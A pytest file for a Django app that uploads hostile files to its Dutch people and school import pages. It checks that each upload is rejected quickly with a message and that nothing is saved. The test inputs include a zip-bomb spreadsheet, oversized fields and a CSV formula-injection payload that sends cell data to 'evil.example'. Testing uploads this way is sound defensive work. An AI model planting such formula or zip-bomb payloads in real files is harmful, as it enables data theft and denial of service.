"""The hostile files of the security review, posted to both import pages as a coordinator
would: each gets a Dutch message on the page (never a 500), quickly, and nothing is saved.

tests/test_uploads.py tries the reader itself with many more files; this walks the pages.
"""

import functools
import time

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django_scopes import scopes_disabled

from partnerships.models import School
from roles.models import Person, RoleAssignment
from tests.upload_fixtures import csv_bytes, handmade_xlsx, workbook, x_rows

PAGES = {
    "people": "roles:person_import",
    "schools": "partnerships:school_import",
}
PEOPLE_HEADER = ["voornaam", "achternaam", "e-mail", "rol", "school"]
SCHOOL_HEADER = ["naam", "bestuur", "plaats", "sector"]


@functools.cache
def hostile_files():
    long = "x" * (130 * 1024)
    return {
        # 128 KB that once ran 13 minutes and took 1.4 GB: 200,000 rows of "x".
        "zip bomb (200,000 rows of x)": handmade_xlsx(x_rows(200_000, numbered=False)),
        "workbook of 200,000 rows": workbook([["x"]] * 200_000),
        "ragged CSV": {
            "people": csv_bytes([PEOPLE_HEADER, ["Anne", "Bos", "a@example.org", "mentor"]])
            + b"Bert;Bos;b@example.org;mentor;;;extra;\r\n",
            "schools": csv_bytes([SCHOOL_HEADER, ["OBS A", "Stichting Zonnebloem", "Ede", "po"]])
            + b"OBS B;Stichting Zonnebloem;Ede;po;x;y\r\n",
        },
        "field over 128 KB": {
            "people": csv_bytes([PEOPLE_HEADER, ["Anne", long, "a@example.org", "mentor", ""]]),
            "schools": csv_bytes([SCHOOL_HEADER, [long, "Stichting Zonnebloem", "Ede", "po"]]),
        },
        "formula names": {
            "people": csv_bytes(
                [
                    PEOPLE_HEADER,
                    ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "Bos", "a@b", "?", ""],
                ]
            ),
            "schools": csv_bytes([SCHOOL_HEADER, ["=1+1", "Stichting Bestaat Niet", "Ede", "po"]]),
        },
    }


CASES = [(page, what) for page in PAGES for what in hostile_files()]


def count_rows():
    with scopes_disabled():
        return (School.objects.count(), Person.objects.count(), RoleAssignment.objects.count())


@pytest.mark.parametrize(("page", "what"), CASES, ids=[f"{p}-{w}" for p, w in CASES])
def test_a_hostile_file_gets_a_message_and_changes_nothing(client_for, samen, page, what):
    data = hostile_files()[what]
    if isinstance(data, dict):
        data = data[page]
    client = client_for(samen.users["coordinator"])
    url = reverse(PAGES[page], kwargs={"partnership_slug": samen.partnership.slug})
    before = count_rows()
    started = time.monotonic()
    response = client.post(url, {"file": SimpleUploadedFile("bestand.xlsx", data)})
    elapsed = time.monotonic() - started
    assert response.status_code == 200
    body = response.content.decode()
    assert 'class="errorlist' in body or "rij" in body.lower()
    assert elapsed < 5, f"{what} took {elapsed:.1f} s"
    confirm = client.post(url.rstrip("/") + "/bevestigen/")
    assert confirm.status_code == 302  # back to the upload, with "upload it again"
    assert count_rows() == before
